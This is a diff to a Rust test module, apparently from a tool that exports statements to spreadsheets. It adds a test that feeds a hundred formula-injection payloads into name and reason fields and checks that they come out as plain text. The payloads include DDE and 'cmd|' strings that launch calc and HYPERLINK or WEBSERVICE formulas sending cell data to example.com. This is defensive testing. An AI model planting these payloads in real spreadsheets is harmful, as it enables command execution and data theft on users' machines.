@@ -169,6 +169,7 @@ mod tests {
     use super::super::statement::samples::{minor, statement};
     use super::super::workbook::reading::{Found, cell, cells, part, times};
     use super::*;
+    use crate::domain::Name;
 
     fn written(statement: &Statement) -> Vec<u8> {
         let mut out = Vec::new();
@@ -227,6 +228,40 @@ mod tests {
         let formulas = (1..=3).flat_map(|sheet| cells(&book, sheet));
         let formulas = formulas.filter(|(_, found)| matches!(found, Found::Formula(..)));
         assert_eq!(formulas.count(), 6);
+    }
+
+    #[test]
+    fn a_hundred_payloads_in_names_come_out_as_text() {
+        const LEADS: [&str; 10] = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\"=", "|"];
+        const BODIES: [&str; 10] = [
+            "1+1",
+            "SUM(A1:A9)",
+            "cmd|' /C calc'!A0",
+            "HYPERLINK(\"http://example.com?x=\"&A1)",
+            "IMPORTXML(\"http://example.com\",\"//a\")",
+            "WEBSERVICE(\"http://example.com\")",
+            "DDE(\"cmd\";\"/C calc\")",
+            "MSEXCEL|'calc.exe'!''",
+            "rundll32|'URL.dll'!A",
+            "2+5+cmd|' /C calc'!A0",
+        ];
+        let payloads = LEADS.iter().flat_map(|lead| BODIES.map(|body| format!("{lead}{body}")));
+        for payload in payloads {
+            let mut attacked = statement();
+            let name = Name::parse(&payload).unwrap();
+            attacked.partner.name = name.clone();
+            attacked.lines.iter_mut().for_each(|line| line.seller = Some(name.clone()));
+            attacked.adjustments[0].reason = payload.as_str().into();
+            let book = written(&attacked);
+            let cells: Vec<_> = (1..=3).flat_map(|sheet| cells(&book, sheet)).collect();
+            let text = Found::Text(payload.replace('\'', "&apos;"));
+            let plain = Found::Text(payload.clone());
+            let as_text = cells.iter().filter(|(_, found)| *found == plain || *found == text);
+            assert_eq!(as_text.count(), 6, "{payload}");
+            let formulas = cells.iter().filter(|(_, found)| matches!(found, Found::Formula(..)));
+            assert_eq!(formulas.count(), 6, "{payload}");
+            assert_eq!(cell(&self::cells(&book, 2), "H3"), number("-780.36"), "{payload}");
+        }
     }
 
     #[test]
